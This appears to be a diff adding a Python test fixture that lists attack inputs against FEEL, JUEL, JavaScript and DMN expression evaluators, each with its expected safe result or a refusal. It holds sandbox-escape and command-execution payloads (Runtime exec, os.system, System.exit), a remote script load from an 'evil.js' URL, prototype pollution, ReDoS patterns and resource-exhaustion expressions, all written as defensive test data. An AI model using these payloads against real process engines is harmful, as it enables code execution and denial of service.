@@ -1,0 +1,147 @@
+"""What people have tried, or would try, against the languages of diagrams: (language, text, variables)."""
+
+from __future__ import annotations
+
+from typing import Final
+
+BAIT = "a" * 40 + "!"
+MILLION = "x" * 1_000_000
+HALF_MILLION = "x" * 500_000
+MANY = [{"n": number} for number in range(20_000)]
+REFUSED: Final = "refused"
+Row = tuple[str, str, dict[str, object], object]
+"""Language, text, variables; the harmless value that it may have, or REFUSED."""
+
+FEEL: list[Row] = [
+    ("feel", f'matches("{BAIT}", "^(a+)+$")', {}, REFUSED),
+    ("feel", f'matches("{BAIT}", "^(a|aa)+$")', {}, REFUSED),
+    ("feel", f'replace("{BAIT}", "^(a+)+$", "x")', {}, REFUSED),
+    ("feel", f'split("{BAIT}", "(a+)+$")', {}, REFUSED),
+    ("feel", f'extract("{BAIT}", "(a+)+$")', {}, REFUSED),
+    ("feel", f'matches(x, "^(([a-z])+.)+[A-Z]([a-z])+$")', {"x": "a" * 60}, REFUSED),  # noqa: F541
+    ("feel", "for i in 1..10000000000 return i", {}, REFUSED),
+    ("feel", "count(for a in 1..100000, b in 1..100000 return 1)", {}, REFUSED),
+    ("feel", "some x in 1..1000000, y in 1..1000000 satisfies x + y = 0", {}, REFUSED),
+    ("feel", "every x in 1..100000, y in 1..100000 satisfies x > 0", {}, REFUSED),
+    ("feel", "{f: function(x) f(x) + 1}.f(1)", {}, REFUSED),
+    ("feel", "{g: function(n) if n = 0 then 0 else g(n - 1) + g(n - 1)}.g(60)", {}, REFUSED),
+    ("feel", "{f: function(n) if n = 0 then [] else [f(n - 1)]}.f(150)", {}, REFUSED),
+    ("feel", "(" * 4000 + "1" + ")" * 4000, {}, REFUSED),
+    ("feel", "[" * 4000 + "]" * 4000, {}, REFUSED),
+    ("feel", '{d: function(s, n) if n = 0 then s else d(s + s, n - 1)}.d("xxxxxxxxxx", 40)', {}, REFUSED),
+    ("feel", 'string join(for i in 1..2000000 return "xxxxxxxxxx")', {}, REFUSED),
+    ("feel", 'replace(x, "x", x)', {"x": "x" * 20_000}, REFUSED),
+    ("feel", '"\\u0000"', {}, REFUSED),
+    ("feel", "x.constructor", {"x": {}}, None),
+    ("feel", 'x.constructor.constructor("return 1")()', {"x": {}}, None),
+    ("feel", "x.__proto__.polluted", {"x": {}}, None),
+    ("feel", 'context put({}, "__proto__", {polluted: 1}).polluted', {}, None),
+    ("feel", 'get value(x, "constructor")', {"x": {}}, None),
+    ("feel", '"".constructor("x")', {}, None),
+    ("feel", "globalThis.feel.run", {}, None),
+    ("feel", 'function(a) external {java: {class: "java.lang.Runtime", method signature: "exec(java.lang.String)"}}',
+     {}, None),
+    ("feel", '__import__("os").system("id")', {}, None),
+    ("feel", "().__class__.__mro__[1].__subclasses__()", {}, REFUSED),
+]  # fmt: skip
+
+JUEL: list[Row] = [
+    ("juel", "${''.getClass().forName('java.lang.Runtime').getMethod('exec')}", {}, REFUSED),
+    ("juel", "${x.getClass().getClassLoader()}", {"x": "a"}, REFUSED),
+    ("juel", "${x.class}", {"x": "a"}, REFUSED),
+    ("juel", "${x['class']['forName']}", {"x": {}}, None),
+    ("juel", "${x.__class__.__mro__}", {"x": {}}, None),
+    ("juel", "${x.__class__}", {"x": "a"}, REFUSED),
+    ("juel", "${'{0.__class__}'.format(x)}", {"x": "a"}, REFUSED),
+    ("juel", "${T(java.lang.Runtime).getRuntime().exec('id')}", {}, REFUSED),
+    ("juel", "${runtime.exec('id')}", {"runtime": {}}, REFUSED),
+    ("juel", "${execution.getProcessEngineServices().getManagementService()}", {}, REFUSED),
+    ("juel", "${execution.engineServices}", {}, REFUSED),
+    ("juel", "#{execution.getClass().forName('javax.script.ScriptEngineManager').newInstance()}", {}, REFUSED),
+    ("juel", "${facesContext.getExternalContext()}", {}, REFUSED),
+    ("juel", "${pageContext.request.getSession()}", {}, REFUSED),
+    ("juel", "${__import__('os').system('id')}", {}, REFUSED),
+    ("juel", "${b.replace('x', b)}", {"b": "x" * 20_000}, REFUSED),
+    ("juel", "${b}" * 5_000, {"b": MILLION}, REFUSED),
+    ("juel", "${" + ".".join(["b", *["concat(b)"] * 900]) + "}", {"b": HALF_MILLION}, REFUSED),
+    ("juel", "${" + " && ".join(["a.containsAll(a)"] * 40) + "}", {"a": MANY}, REFUSED),
+    ("juel", "${" + "n*" * 5_000 + "n}", {"n": 10**300}, REFUSED),
+    ("juel", "${" + "(" * 4_000 + "1" + ")" * 4_000 + "}", {}, 1),
+    ("juel", "${" + "!" * 10_000 + "true}", {}, REFUSED),
+    ("juel", "${" * 4_000, {}, REFUSED),
+    ("juel", f"${{x.matches('^(a+)+$') ? '{BAIT}' : x}}", {"x": BAIT}, REFUSED),
+    ("juel", "${x.replaceAll('^(a+)+$', '')}", {"x": BAIT}, REFUSED),
+    ("juel", "${x.split('^(a+)+$')}", {"x": BAIT}, REFUSED),
+    ("juel", "${" + "9" * 10_000 + "}", {}, REFUSED),
+    ("juel", "${1e999}", {}, REFUSED),
+]
+
+JAVASCRIPT: list[Row] = [
+    ("javascript", "for (;;) {}", {}, REFUSED),
+    ("javascript", "while (true) { try { for (;;) {} } catch (e) {} finally { continue } }", {}, REFUSED),
+    ("javascript", "const end = Date.now() + 1; while (Date.now() < end);", {}, REFUSED),
+    ("javascript", f"/^(a+)+$/.test('{BAIT}')", {}, REFUSED),
+    ("javascript", f"'{BAIT}'.replace(/(a|aa)+$/, '')", {}, REFUSED),
+    ("javascript", "var a = []; for (;;) a.push('x'.repeat(1000) + a.length)", {}, REFUSED),
+    ("javascript", "new Array(1e9).fill(0)", {}, REFUSED),
+    ("javascript", "new ArrayBuffer(2 ** 31)", {}, REFUSED),
+    ("javascript", "var s = 'x'; for (;;) s += s", {}, REFUSED),
+    ("javascript", "'x'.repeat(2 ** 29)", {}, REFUSED),
+    ("javascript", "'x'.repeat(9000000)", {}, REFUSED),
+    ("javascript", "2n ** (2n ** 40n)", {}, REFUSED),
+    ("javascript", "2n ** 40000n", {}, REFUSED),
+    ("javascript", "function f() { return f() + 1 } f()", {}, REFUSED),
+    ("javascript", "function f() { try { f() } catch (e) { f() } } f()", {}, REFUSED),
+    ("javascript", "var a = []; for (var i = 0; i < 100000; i++) a = [a]; JSON.stringify(a)", {}, REFUSED),
+    ("javascript", "var a = []; a[0] = a; a", {}, REFUSED),
+    ("javascript", "new Proxy({}, {ownKeys: function () { for (;;) {} }})", {}, REFUSED),
+    ("javascript", "({get a() { for (;;) {} }})", {}, REFUSED),
+    ("javascript", "JSON.stringify = Object.keys = Array.isArray = function () { for (;;) {} }; ({a: [1]})", {},
+     {"a": [1]}),
+    ("javascript", "Object.prototype.toJSON = function () { return 'evil' }; ({a: 1})", {}, {"a": 1}),
+    ("javascript", "Array.prototype.push = Map.prototype.get = null; execution.setVariable('a', 1); 2", {}, 2),
+    ("javascript", "Object.prototype.value = 'evil'; ({}).value", {}, "evil"),
+    ("javascript", "Object.defineProperty(Object.prototype, 'text', {get: function () { return 'evil' }}); 1", {}, 1),
+    ("javascript", "execution.setVariable.constructor('return typeof process')()", {}, REFUSED),
+    ("javascript", "execution['set' + 'Variable'].constructor('return typeof process')()", {}, "undefined"),
+    ("javascript", "this.constructor.constructor('return typeof process')()", {}, "undefined"),
+    ("javascript", "(function () { return typeof this.std + typeof this.os })()", {}, "undefinedundefined"),
+    ("javascript", "Function('return globalThis')().process", {}, None),
+    ("javascript", "import('os')", {}, REFUSED),
+    ("javascript", "eval('import(\"os\")')", {}, REFUSED),
+    ("javascript", "eval('java').lang.System.exit(1)", {}, REFUSED),
+    ("javascript", "Java.type('java.lang.Runtime').getRuntime().exec('id')", {}, REFUSED),
+    ("javascript", "java.lang.Runtime.getRuntime().exec('id')", {}, REFUSED),
+    ("javascript", "this.engine.factory.scriptEngine.eval('1')", {}, REFUSED),
+    ("javascript", "Polyglot.eval('python', '1')", {}, REFUSED),
+    ("javascript", "load('http://127.0.0.1/evil.js')", {}, REFUSED),
+    ("javascript", "new JavaImporter(java.io)", {}, REFUSED),
+    ("javascript", "execution.getProcessEngineServices().getRepositoryService()", {}, REFUSED),
+    ("javascript", "execution['getProcess' + 'EngineServices']()", {}, REFUSED),
+    ("javascript", "Error.prepareStackTrace = function (e, s) { for (;;) {} }; null.x", {}, REFUSED),
+    ("javascript", "throw {toString: function () { for (;;) {} }, get name() { for (;;) {} }}", {}, REFUSED),
+    ("javascript", "class E extends Error { get message() { for (;;) {} } } throw new E()", {}, REFUSED),
+    ("javascript", "'\\0'", {}, REFUSED),
+    ("javascript", "'\\ud800'", {}, REFUSED),
+    ("javascript", "(async function () { for (;;) await 1 })()", {}, REFUSED),
+    ("javascript", "(" * 9_000 + "1" + ")" * 9_000, {}, REFUSED),
+    ("javascript", "[" * 9_000 + "]" * 9_000, {}, REFUSED),
+    ("javascript", "a" + "=>a" * 5_000, {}, REFUSED),
+    ("javascript", "x.constructor('x')", {"x": {}}, "x"),
+    ("javascript", "x.__proto__.polluted = 1; ({}).polluted", {"x": {}}, 1),
+    ("javascript", "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)", {}, REFUSED),
+]  # fmt: skip
+
+DMN: list[Row] = [
+    ("dmn:feel", f'matches("{BAIT}", "^(a+)+$")', {}, REFUSED),
+    ("dmn:feel", "for i in 1..10000000000 return i", {}, REFUSED),
+    ("dmn:feel", "{f: function(x) f(x) + 1}.f(1)", {}, REFUSED),
+    ("dmn:feel", "x.constructor", {"x": {}}, None),
+    ("dmn:juel", "${''.getClass().forName('java.lang.Runtime')}", {}, REFUSED),
+    ("dmn:juel", "${b.replace('x', b)}", {"b": "x" * 20_000}, REFUSED),
+    ("dmn:javascript", "for (;;) {}", {}, REFUSED),
+    ("dmn:javascript", f"/^(a+)+$/.test('{BAIT}')", {}, REFUSED),
+    ("dmn:javascript", "java.lang.System.exit(1)", {}, REFUSED),
+]
+
+ATTACKS = [*FEEL, *JUEL, *JAVASCRIPT, *DMN]
